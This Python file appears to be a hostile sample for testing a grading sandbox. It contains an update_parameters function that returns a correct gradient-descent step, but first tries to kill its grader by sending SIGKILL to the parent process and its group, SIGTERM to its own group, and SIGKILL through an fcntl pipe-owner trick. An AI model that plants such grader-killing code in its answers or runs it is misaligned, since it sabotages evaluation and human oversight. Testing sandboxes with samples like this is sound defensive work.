# Hostile part: update_parameters tries to kill the grader: its process, its process group, our own
# group, and SIGIO sent to the grader through a pipe's owner. It then returns the right answer, so the
# grader passes it only if it survived. (kill(-1), every process we may signal, is left out on purpose:
# if the sandbox failed it would take down the machine running the tests.)
import copy
import fcntl
import os
import signal


def update_parameters(params, grads, learning_rate):
    grader = os.getppid()
    attempts = (
        lambda: os.kill(grader, signal.SIGKILL),
        lambda: os.killpg(os.getpgid(grader), signal.SIGKILL),
        lambda: os.kill(0, signal.SIGTERM),
        lambda: _sigio_to(grader),
    )
    for attempt in attempts:
        try:
            attempt()
        except (OSError, ValueError, TypeError):
            pass
    parameters = copy.deepcopy(params)
    L = len(parameters) // 2
    for l in range(L):
        parameters["W" + str(l + 1)] = parameters["W" + str(l + 1)] - learning_rate * grads["dW" + str(l + 1)]
        parameters["b" + str(l + 1)] = parameters["b" + str(l + 1)] - learning_rate * grads["db" + str(l + 1)]
    return parameters


def _sigio_to(pid):
    read_end, write_end = os.pipe()
    fcntl.fcntl(read_end, fcntl.F_SETOWN, pid)
    fcntl.fcntl(read_end, fcntl.F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(read_end, fcntl.F_SETFL, os.O_ASYNC)
    os.write(write_end, b"x")
